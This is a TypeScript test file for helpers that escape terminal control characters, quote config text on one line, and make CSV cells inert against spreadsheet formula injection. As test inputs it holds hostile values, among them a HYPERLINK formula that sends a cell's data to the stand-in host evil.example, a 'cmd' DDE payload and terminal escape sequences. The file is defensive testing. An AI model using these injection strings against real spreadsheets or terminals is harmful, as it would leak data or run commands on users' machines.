/**
 * Text from a config on its way out: to a terminal or a one-line message (control
 * characters escaped) and into a CSV cell a spreadsheet will open (formulas made inert).
 */
import { describe, expect, it } from 'vitest';
import { describe as describeValue, quote } from '../../src/core/config/errors.ts';
import { escapeControls } from '../../src/core/text/escape-controls.ts';
import { csvTextCell } from '../../src/core/text/csv-text-cell.ts';

describe('escapeControls writes control characters as \\uXXXX', () => {
  it.each([
    { text: 'adam', expected: 'adam' },
    { text: 'é ⟶ 😀', expected: 'é ⟶ 😀' }, // printable Unicode stays
    { text: 'red\x1b[31m', expected: 'red\\u001b[31m' }, // ESC: a colour change
    { text: '\x1b]0;owned\x07', expected: '\\u001b]0;owned\\u0007' }, // OSC: retitles the window, ended by BEL
    { text: 'two\r\nlines', expected: 'two\\u000d\\u000alines' },
    { text: 'tab\there', expected: 'tab\\u0009here' },
    { text: 'nul\0 del\x7f c1\x9b', expected: 'nul\\u0000 del\\u007f c1\\u009b' },
    { text: 'sep\u2028arator', expected: 'sep\\u2028arator' },
    { text: 'bidi\u202eevil', expected: 'bidi\\u202eevil' },
  ])('$expected', ({ text, expected }) => {
    expect(escapeControls(text)).toBe(expected);
  });

  it('keeps the characters it is asked to keep', () => {
    expect(escapeControls('a\tb\r\nc\x1b', '\t\r\n')).toBe('a\tb\r\nc\\u001b');
  });
});

describe('config text in a message is quoted on one line', () => {
  it.each([
    { text: 'rainfall', expected: '"rainfall"' },
    { text: 'two\nlines', expected: '"two\\nlines"' }, // JSON's escape
    { text: 'esc\x1b', expected: '"esc\\u001b"' },
    { text: 'del\x7f and \u2028', expected: '"del\\u007f and \\u2028"' }, // JSON leaves these raw
  ])('$text → $expected', ({ text, expected }) => {
    expect(quote(text)).toBe(expected);
    expect(describeValue(text)).toBe(expected);
  });
});

describe('csvTextCell: text a spreadsheet will not run (OWASP), quoted as RFC 4180 asks', () => {
  it.each([
    { text: 'adam', expected: 'adam' },
    { text: '=HYPERLINK("http://evil.example/?x="&A1,"click")', expected: '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' },
    { text: "+cmd|' /C calc'!A0", expected: "'+cmd|' /C calc'!A0" },
    { text: '-2+3', expected: "'-2+3" },
    { text: '@SUM(1,1)', expected: '"\'@SUM(1,1)"' },
    { text: '\t=1', expected: "'\t=1" },
    { text: '\r=1', expected: '"\'\r=1"' },
    { text: 'a=b', expected: 'a=b' }, // only a leading character makes a formula
    { text: 'say "hi"', expected: '"say ""hi"""' },
    { text: 'two\nlines', expected: '"two\nlines"' },
    { text: 'esc\x1b]0;x\x07', expected: 'esc\\u001b]0;x\\u0007' },
  ])('$text → $expected', ({ text, expected }) => {
    expect(csvTextCell(text)).toBe(expected);
  });
});
